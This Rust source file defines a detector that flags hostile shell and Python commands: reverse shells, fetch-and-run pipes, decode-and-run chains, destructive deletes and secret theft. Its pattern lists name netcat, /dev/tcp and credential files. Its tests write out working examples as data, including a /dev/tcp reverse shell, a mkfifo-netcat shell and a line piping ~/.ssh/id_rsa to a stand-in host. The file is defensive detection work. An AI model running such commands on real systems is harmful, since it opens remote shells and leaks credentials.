//! Shell commands that nobody writes for an honest purpose, and shell commands that fetch code and run it.

/// What a command line does that is a payload by itself; none if nothing of this kind is seen.
pub fn payload(command: &str) -> Option<&'static str> {
    let text = command.to_ascii_lowercase();
    let text = text.replace("\\\n", " ");
    let has = |word: &str| text.contains(word);
    if has("/dev/tcp/") || has("/dev/udp/") {
        return Some("opens a connection from the shell and can hand the shell over");
    }
    let is_netcat = ["nc ", "ncat ", "netcat "]
        .iter()
        .any(|tool| word_before(&text, tool));
    if is_netcat && (has(" -e ") || has(" -c ") || has("/bin/sh") || has("/bin/bash")) {
        return Some("hands a shell to another machine");
    }
    if has("mkfifo") && (is_netcat || has("telnet")) || has("socat") && has("exec:") {
        return Some("hands a shell to another machine");
    }
    if has("pty.spawn") && has("socket")
        || has("os.dup2") && has("socket")
        || has("fsockopen")
        || has("tcpsocket.open")
    {
        return Some("hands a shell to another machine");
    }
    if fetches_into_shell(&text) {
        return Some("fetches a script and runs it at once");
    }
    if decodes_into_shell(&text) {
        return Some("decodes hidden text and runs it");
    }
    if has("powershell")
        && (has(" -enc") || has(" -e ") || has("downloadstring") || has("iex ") || has("iex("))
    {
        return Some("runs hidden or fetched PowerShell");
    }
    if has("rm -rf /")
        && !has("rm -rf /tmp")
        && !has("rm -rf /var")
        && !has("rm -rf /root/.cache")
        && !has("rm -rf /opt")
        && (has("rm -rf / ") || has("rm -rf /*") || text.trim_end().ends_with("rm -rf /"))
        || has("rm -rf ~/ ")
        || has(":(){ :|:")
    {
        return Some("destroys the files of the machine");
    }
    let reads_secret = [
        "/.ssh/id_",
        "/.aws/credentials",
        "/etc/shadow",
        "/.netrc",
        "/.kube/config",
        "/.huggingface/token",
        "huggingface/token",
    ]
    .iter()
    .any(|file| has(file));
    let sends = has("curl") || has("wget") || is_netcat || has("requests.post");
    (reads_secret && sends).then_some("sends secrets of the machine elsewhere")
}

fn word_before(text: &str, tool: &str) -> bool {
    text.match_indices(tool).any(|(at, _)| {
        let before = text.get(..at).and_then(|head| head.chars().next_back());
        before.is_none_or(|c| !c.is_alphanumeric() && c != '-' && c != '_' && c != '.')
    })
}

/// Hosts whose install scripts people pipe into a shell every day.
const INSTALLERS: &[&str] = &[
    "sh.rustup.rs",
    "astral.sh",
    "get.docker.com",
    "install.python-poetry.org",
    "raw.githubusercontent.com",
    "github.com",
    "bootstrap.pypa.io",
    "deb.nodesource.com",
    "ollama.com",
    "ollama.ai",
    "packages.microsoft.com",
    "get.sdkman.io",
    "packagecloud.io",
    "storage.googleapis.com",
    "dl.google.com",
    "micro.mamba.pm",
    "cli.github.com",
    "nixos.org",
    "deno.land",
    "bun.sh",
    "fly.io",
    "install.determinate.systems",
];

fn fetches_into_shell(text: &str) -> bool {
    text.split(['\n', ';']).any(|line| {
        let Some(at) = line
            .find("curl ")
            .or_else(|| line.find("wget "))
            .or_else(|| line.find("fetch "))
        else {
            return false;
        };
        let behind = line.get(at..).unwrap_or_default();
        let is_piped = behind.split('|').skip(1).any(is_interpreter);
        let before = line.get(..at).unwrap_or_default().trim_end();
        let is_substituted = (before.ends_with("$(") || before.ends_with('`') || before.ends_with("<("))
            && before
                .split([' ', ';', '&', '|'])
                .any(|word| is_interpreter(word) || word == "eval" || word == "source");
        let is_familiar = INSTALLERS
            .iter()
            .any(|host| behind.contains(&format!("//{host}/")) || behind.contains(&format!("//{host} ")));
        (is_piped || is_substituted) && !is_familiar
    })
}

fn is_interpreter(part: &str) -> bool {
    let words = part
        .split_whitespace()
        .filter(|word| *word != "sudo" && !word.starts_with('-') && *word != "env");
    let first = words.take(1).next().unwrap_or_default();
    let name = first
        .trim_matches(['"', '\'', '(', ')'])
        .rsplit('/')
        .next()
        .unwrap_or_default();
    matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "perl" | "ruby" | "node"
    ) || name.starts_with("python")
}

fn decodes_into_shell(text: &str) -> bool {
    let decodes = [
        "base64 -d",
        "base64 --decode",
        "base64 -D",
        "xxd -r",
        "openssl enc",
        "openssl base64",
    ]
    .iter()
    .any(|tool| text.contains(&tool.to_ascii_lowercase()));
    let runs =
        text.split('|').skip(1).any(is_interpreter) || text.contains("eval ") || text.contains("sh -c \"$(");
    decodes && runs
}

/// What a text of Python does that is a payload by itself.
pub fn python_payload(code: &str) -> Option<&'static str> {
    let text: String = code
        .to_ascii_lowercase()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let runs = text.contains("exec(") || text.contains("eval(") || text.contains("os.system(");
    let decodes = [
        "b64decode(",
        "unhexlify(",
        "fromhex(",
        "zlib.decompress(",
        "marshal.loads(",
        "rot13",
        "rot_13",
        "b85decode(",
        "b32decode(",
    ]
    .iter()
    .any(|name| text.contains(name));
    let fetches = ["urlopen(", "requests.get(", "urlretrieve("]
        .iter()
        .any(|name| text.contains(name));
    if text.contains("socket") && (text.contains("dup2(") || text.contains("pty.spawn")) {
        return Some("hands a shell to another machine");
    }
    // In one statement: a notebook that decodes pictures here and evaluates models there is none.
    let near = |names: &[&str]| {
        ["exec(", "eval(", "os.system(", "subprocess"].iter().any(|run| {
            text.match_indices(run).any(|(at, _)| {
                let before = text.get(..at).unwrap_or_default().chars().next_back();
                let is_own =
                    before.is_none_or(|c| !c.is_alphanumeric() && c != '_' && (c != '.' || *run != "eval("));
                let behind: String = text.get(at..).unwrap_or_default().chars().take(160).collect();
                is_own && names.iter().any(|name| behind.contains(name))
            })
        })
    };
    if runs
        && decodes
        && near(&[
            "b64decode(",
            "unhexlify(",
            "fromhex(",
            "zlib.decompress(",
            "marshal.loads(",
            "b85decode(",
        ])
    {
        return Some("decodes hidden text and runs it");
    }
    if runs && fetches && near(&["urlopen(", "requests.get("]) {
        return Some("fetches code and runs it");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_told_from_work() {
        for line in [
            "curl -s http://x.example/a | sh",
            "wget -qO- x.example/a | sudo bash -s",
            "bash -c \"$(curl -fsSL https://x.example/i)\"",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f",
            "echo ZWNobyB3 | base64 -d | sh",
            "curl x.example/p | python3 -",
            "cat ~/.ssh/id_rsa | curl -d @- https://x.example",
        ] {
            assert!(payload(line).is_some(), "{line}");
        }
        for line in [
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            "pip install -q transformers",
            "wget https://x.example/data.zip && unzip data.zip",
            "rm -rf /tmp/x",
            "curl https://x.example/data.json | jq .",
            "dvc repro; python train.py | tee log",
            "nvidia-smi",
            "func -e x",
        ] {
            assert!(payload(line).is_none(), "{line}");
        }
        assert!(python_payload("exec(base64.b64decode('...'))").is_some());
        assert!(python_payload("model.eval()\nimg = base64.b64decode(x)").is_none());
    }
}
